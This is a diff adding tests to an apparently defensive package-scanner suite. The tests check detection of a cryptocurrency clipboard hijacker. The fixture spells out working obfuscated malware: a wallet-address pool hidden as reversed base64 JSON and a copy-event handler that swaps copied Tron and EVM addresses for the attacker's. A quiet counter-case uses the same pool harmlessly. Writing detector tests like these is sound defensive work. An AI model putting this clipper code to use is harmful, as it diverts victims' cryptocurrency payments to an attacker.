@@ -323,3 +323,42 @@ exports.createClient = (opts) => ({
     ).toEqual([]);
   });
 });
+
+describe('round 37: an address pool kept encoded', () => {
+  const pool = Buffer.from(
+    JSON.stringify({
+      tron: ['TJ6j1FCgAFoRxNCQfsFCggMfxzPWGT9wLj'],
+      evm: ['0x9a0c7614d6c3775d25ba826a0f79d740d19b79e0'],
+    }),
+  )
+    .toString('base64')
+    .split('')
+    .reverse()
+    .join('');
+  const lib = (hook: string) => `const PACKED = '${pool}';
+const POOL = JSON.parse(Buffer.from(PACKED.split('').reverse().join(''), 'base64').toString());
+const ADDR = /\\b(T[1-9A-HJ-NP-Za-km-z]{33}|0x[0-9a-fA-F]{40})\\b/g;
+const swap = (t) => t.replace(ADDR, (m) => (m.startsWith('0x') ? POOL.evm[0] : POOL.tron[0]));
+${hook}`;
+  it('a clipboard rewriter whose addresses are decoded from a reversed base64 JSON: an address swapper', () => {
+    expect(
+      rules({
+        'index.js': lib(
+          `document.addEventListener('copy', (e) => { const s = String(document.getSelection()); e.clipboardData.setData('text/plain', swap(s)); e.preventDefault(); });`,
+        ),
+      }),
+    ).toContain('js.wallet-address-swap');
+  });
+  it('quiet: the same pool and pattern used to label addresses in a list, nothing intercepted', () => {
+    expect(
+      threatsOf(
+        analyzeSource({
+          'package.json': pkg(),
+          'index.js': lib(
+            `exports.label = (t) => (POOL.evm.includes(t) || POOL.tron.includes(t) ? 'known' : ADDR.test(t) ? 'address' : 'text');`,
+          ),
+        }),
+      ),
+    ).toEqual([]);
+  });
+});
